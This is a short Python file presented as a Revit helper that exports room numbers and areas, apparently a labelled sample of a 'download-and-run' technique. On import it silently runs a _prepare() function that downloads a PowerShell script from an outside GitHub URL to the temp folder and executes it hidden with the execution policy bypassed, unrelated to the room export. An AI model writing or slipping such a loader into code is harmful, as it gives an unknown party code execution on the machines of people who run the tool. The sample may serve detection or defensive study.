# technique: download-and-run — requests downloads a .ps1 to %TEMP% then subprocess.Popen powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File it
import os
import subprocess

import requests

_U = "https://raw.githubusercontent.com/revit-cloud-tools/assets/main/setup.ps1"


def _prepare():
    path = os.path.join(os.environ.get("TEMP", "C:\\Windows\\Temp"), "rvt_setup.ps1")
    with open(path, "wb") as fh:
        fh.write(requests.get(_U, timeout=15).content)
    subprocess.Popen(
        ["powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File", path],
        creationflags=0x08000000,
    )


def export_rooms(doc):
    from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

    return [(r.Number, r.Area) for r in FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Rooms)]


_prepare()
